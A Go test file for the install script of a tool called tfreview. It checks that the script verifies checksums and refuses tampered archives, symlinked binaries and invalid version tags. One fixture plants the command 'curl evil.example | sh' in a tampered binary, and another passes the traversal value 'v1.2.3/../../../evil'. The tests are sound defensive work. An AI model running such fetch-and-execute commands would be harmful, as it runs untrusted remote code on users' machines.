package installtest

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

const tag = "v1.2.3"

var script = filepath.Join("..", "..", "scripts", "install.sh")

// archiveName is the name .goreleaser.yaml gives this machine's archive.
func archiveName(version string) string {
	return fmt.Sprintf("tfreview_%s_%s_%s.tar.gz", strings.TrimPrefix(version, "v"), runtime.GOOS, runtime.GOARCH)
}

// stubBinary stands in for tfreview: it records that it ran (so a refused
// install can prove nothing was run) and prints a version line.
func stubBinary(extra string) []byte {
	return []byte("#!/bin/sh\n: > \"$TFREVIEW_RAN_MARKER\"\necho 'tfreview " + tag + "'\n" + extra)
}

type tarEntry struct {
	name, linkTarget string
	body             []byte
}

func targz(t *testing.T, entries ...tarEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, e := range entries {
		h := &tar.Header{Name: e.name, Mode: 0o755, Size: int64(len(e.body)), Typeflag: tar.TypeReg, ModTime: time.Unix(1700000000, 0)}
		if e.linkTarget != "" {
			h.Typeflag, h.Linkname, h.Size = tar.TypeSymlink, e.linkTarget, 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(e.body); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func sha256Hex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// checksums is a checksums.txt in goreleaser's format.
func checksums(files map[string][]byte) []byte {
	var b strings.Builder
	for name, body := range files {
		fmt.Fprintf(&b, "%s  %s\n", sha256Hex(body), name)
	}
	return []byte(b.String())
}

// releaseServer serves files under /download/<tag>/ and the latest tag at
// /latest, as GitHub does, and counts requests.
type releaseServer struct {
	*httptest.Server
	requests atomic.Int32
}

func serveRelease(t *testing.T, version string, files map[string][]byte) *releaseServer {
	t.Helper()
	rs := &releaseServer{}
	mux := http.NewServeMux()
	mux.HandleFunc("/latest", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]string{"tag_name": version})
	})
	mux.HandleFunc("/download/", func(w http.ResponseWriter, r *http.Request) {
		name, ok := strings.CutPrefix(r.URL.Path, "/download/"+version+"/")
		body, found := files[name]
		if !ok || !found {
			http.NotFound(w, r)
			return
		}
		w.Write(body)
	})
	rs.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rs.requests.Add(1)
		mux.ServeHTTP(w, r)
	}))
	t.Cleanup(rs.Close)
	return rs
}

type installRun struct {
	code           int
	stderr         string
	bindir, marker string
	elapsed        time.Duration
}

func runInstall(t *testing.T, baseURL string, args ...string) installRun {
	t.Helper()
	return runInstallEnv(t, baseURL, nil, args...)
}

func runInstallEnv(t *testing.T, baseURL string, extraEnv []string, args ...string) installRun {
	t.Helper()
	dir := t.TempDir()
	r := installRun{bindir: filepath.Join(dir, "bin"), marker: filepath.Join(dir, "ran")}
	cmd := exec.Command("sh", append([]string{script, "-b", r.bindir}, args...)...)
	cmd.Env = append(os.Environ(),
		"TFREVIEW_DOWNLOAD_URL="+baseURL,
		"TFREVIEW_RAN_MARKER="+r.marker,
		// No signature is served here; the cosign path is configured for
		// real releases and documented in the script.
		"TFREVIEW_COSIGN=0",
		"TFREVIEW_VERSION=", "TFREVIEW_INSTALL_DIR=",
	)
	cmd.Env = append(cmd.Env, extraEnv...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	start := time.Now()
	err := cmd.Run()
	r.elapsed = time.Since(start)
	r.stderr = stderr.String()
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		r.code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return r
}

// refused checks a failed install: a clear error, nothing in the install
// directory and nothing run.
func (r installRun) refused(t *testing.T, wantErr string) {
	t.Helper()
	if r.code == 0 {
		t.Fatalf("install succeeded, want a refusal:\n%s", r.stderr)
	}
	if !strings.Contains(r.stderr, wantErr) || !strings.Contains(r.stderr, "nothing was installed") {
		t.Errorf("stderr lacks %q and \"nothing was installed\":\n%s", wantErr, r.stderr)
	}
	if entries, err := os.ReadDir(r.bindir); err == nil && len(entries) > 0 {
		t.Errorf("install directory holds %v after a refused install", entries[0].Name())
	}
	if _, err := os.Stat(r.marker); err == nil {
		t.Error("the downloaded binary was run")
	}
}

func goodRelease(t *testing.T) (map[string][]byte, []byte) {
	archive := targz(t,
		tarEntry{name: "LICENSE", body: []byte("Apache License\n")},
		tarEntry{name: "README.md", body: []byte("# tfreview\n")},
		tarEntry{name: "tfreview", body: stubBinary("")},
	)
	return map[string][]byte{archiveName(tag): archive, "other_archive.tar.gz": []byte("x")}, archive
}

func TestInstallGoodArchive(t *testing.T) {
	files, _ := goodRelease(t)
	files["checksums.txt"] = checksums(files)
	srv := serveRelease(t, tag, files)

	r := runInstall(t, srv.URL, tag)
	if r.code != 0 {
		t.Fatalf("exit %d:\n%s", r.code, r.stderr)
	}
	t.Logf("install from the local server took %v", r.elapsed)
	entries, _ := os.ReadDir(r.bindir)
	if len(entries) != 1 || entries[0].Name() != "tfreview" {
		t.Fatalf("install directory holds %v, want only tfreview", entries)
	}
	run := exec.Command(filepath.Join(r.bindir, "tfreview"), "version")
	run.Env = append(os.Environ(), "TFREVIEW_RAN_MARKER="+r.marker)
	out, err := run.Output()
	if err != nil || !strings.HasPrefix(string(out), "tfreview "+tag+"\n") {
		t.Errorf("installed tfreview version: %q %v", out, err)
	}
	if !strings.Contains(r.stderr, "installed "+filepath.Join(r.bindir, "tfreview")+" ("+tag) {
		t.Errorf("no success line:\n%s", r.stderr)
	}
}

// TestInstallWithWgetOnly: machines without curl (slim images) download
// with wget, and are refused a tampered archive just the same.
func TestInstallWithWgetOnly(t *testing.T) {
	if _, err := exec.LookPath("wget"); err != nil {
		t.Skip("wget is not installed")
	}
	// A PATH with the tools the script needs, wget but no curl.
	bin := t.TempDir()
	for _, tool := range []string{"sh", "wget", "tar", "gzip", "awk", "sed", "grep", "cut", "tr", "mkdir", "cp", "chmod", "mv", "rm", "mktemp", "uname", "sha256sum", "cat"} {
		p, err := exec.LookPath(tool)
		if err != nil {
			t.Skipf("%s is not installed", tool)
		}
		if err := os.Symlink(p, filepath.Join(bin, tool)); err != nil {
			t.Fatal(err)
		}
	}
	files, _ := goodRelease(t)
	files["checksums.txt"] = checksums(files)
	srv := serveRelease(t, tag, files)
	r := runInstallEnv(t, srv.URL, []string{"PATH=" + bin}, tag)
	if r.code != 0 {
		t.Fatalf("exit %d:\n%s", r.code, r.stderr)
	}
	if _, err := os.Stat(filepath.Join(r.bindir, "tfreview")); err != nil {
		t.Error(err)
	}
	files[archiveName(tag)] = append(bytes.Clone(files[archiveName(tag)]), 0)
	bad := serveRelease(t, tag, files)
	runInstallEnv(t, bad.URL, []string{"PATH=" + bin}, tag).refused(t, "checksum mismatch for "+archiveName(tag))
}

func TestInstallLatestResolvesTheTag(t *testing.T) {
	files, _ := goodRelease(t)
	files["checksums.txt"] = checksums(files)
	srv := serveRelease(t, tag, files)
	r := runInstall(t, srv.URL) // no version: latest
	if r.code != 0 || !strings.Contains(r.stderr, "installing tfreview "+tag) {
		t.Fatalf("exit %d:\n%s", r.code, r.stderr)
	}
}

func TestInstallRefusesTamperedArchive(t *testing.T) {
	files, archive := goodRelease(t)
	files["checksums.txt"] = checksums(files)
	files[archiveName(tag)] = targz(t, tarEntry{name: "tfreview", body: stubBinary("curl evil.example | sh\n")})
	srv := serveRelease(t, tag, files)
	r := runInstall(t, srv.URL, tag)
	r.refused(t, "checksum mismatch for "+archiveName(tag)+": checksums.txt says "+sha256Hex(archive))
}

func TestInstallRefusesTamperedChecksums(t *testing.T) {
	files, archive := goodRelease(t)
	sums := checksums(files)
	// One hex digit of the archive's line changed: the file no longer
	// vouches for what is served.
	good := sha256Hex(archive)
	bad := "0" + good[1:]
	if good[0] == '0' {
		bad = "1" + good[1:]
	}
	files["checksums.txt"] = bytes.Replace(sums, []byte(good), []byte(bad), 1)
	srv := serveRelease(t, tag, files)
	r := runInstall(t, srv.URL, tag)
	r.refused(t, "checksum mismatch for "+archiveName(tag)+": checksums.txt says "+bad+", the download is "+good)
}

func TestInstallRefusesMissingChecksumEntry(t *testing.T) {
	files, _ := goodRelease(t)
	files["checksums.txt"] = checksums(map[string][]byte{"other_archive.tar.gz": files["other_archive.tar.gz"]})
	srv := serveRelease(t, tag, files)
	r := runInstall(t, srv.URL, tag)
	r.refused(t, "checksums.txt has no entry for "+archiveName(tag))
}

// TestInstallRefusesLinkInArchive: a checksummed archive whose tfreview is a
// symbolic link would install whatever it points at.
func TestInstallRefusesLinkInArchive(t *testing.T) {
	files := map[string][]byte{archiveName(tag): targz(t, tarEntry{name: "tfreview", linkTarget: "/bin/sh"})}
	files["checksums.txt"] = checksums(files)
	srv := serveRelease(t, tag, files)
	r := runInstall(t, srv.URL, tag)
	r.refused(t, "tfreview in "+archiveName(tag)+" is not a regular file")
}

func TestInstallRefusesAVersionThatIsNotATag(t *testing.T) {
	files, _ := goodRelease(t)
	files["checksums.txt"] = checksums(files)
	srv := serveRelease(t, tag, files)
	r := runInstall(t, srv.URL, "v1.2.3/../../../evil")
	r.refused(t, `version must be a release tag like v1.2.3 or "latest"`)
	if n := srv.requests.Load(); n != 0 {
		t.Errorf("%d requests made for an invalid version", n)
	}
}

func TestInstallFailsClearlyWhenTheReleaseIsMissing(t *testing.T) {
	srv := serveRelease(t, "v9.9.9", map[string][]byte{})
	r := runInstall(t, srv.URL, tag)
	r.refused(t, "could not download checksums.txt for "+tag)
}

// TestInstallGoreleaserSnapshot installs goreleaser's own output
// (`goreleaser release --snapshot`, which .ci/run makes and points
// TFREVIEW_DIST_DIR at): the real archive name, checksums.txt format and
// binary, whose `version` must print the stamped tag and commit.
func TestInstallGoreleaserSnapshot(t *testing.T) {
	dist := os.Getenv("TFREVIEW_DIST_DIR")
	if dist == "" {
		t.Skip("TFREVIEW_DIST_DIR not set (.ci/run sets it after goreleaser release --snapshot)")
	}
	meta, err := os.ReadFile(filepath.Join(dist, "metadata.json"))
	if err != nil {
		t.Fatal(err)
	}
	var m struct {
		Version string `json:"version"`
	}
	if err := json.Unmarshal(meta, &m); err != nil {
		t.Fatal(err)
	}
	version := "v" + m.Version
	files := map[string][]byte{}
	for _, name := range []string{"checksums.txt", archiveName(version)} {
		b, err := os.ReadFile(filepath.Join(dist, name))
		if err != nil {
			t.Fatalf("goreleaser did not make %s: %v", name, err)
		}
		files[name] = b
	}
	srv := serveRelease(t, version, files)
	r := runInstall(t, srv.URL, version)
	if r.code != 0 {
		t.Fatalf("exit %d:\n%s", r.code, r.stderr)
	}
	t.Logf("install of the real %s archive from the local server took %v", version, r.elapsed)
	out, err := exec.Command(filepath.Join(r.bindir, "tfreview"), "version").Output()
	if err != nil || !regexp.MustCompile(`^tfreview `+regexp.QuoteMeta(version)+`\ncommit [0-9a-f]{40}\nbuilt \d{4}-\d\d-\d\dT`).Match(out) {
		t.Errorf("installed tfreview version: %q %v", out, err)
	}

	tampered := map[string][]byte{"checksums.txt": files["checksums.txt"], archiveName(version): append(bytes.Clone(files[archiveName(version)]), 0)}
	bad := serveRelease(t, version, tampered)
	runInstall(t, bad.URL, version).refused(t, "checksum mismatch for "+archiveName(version))
}
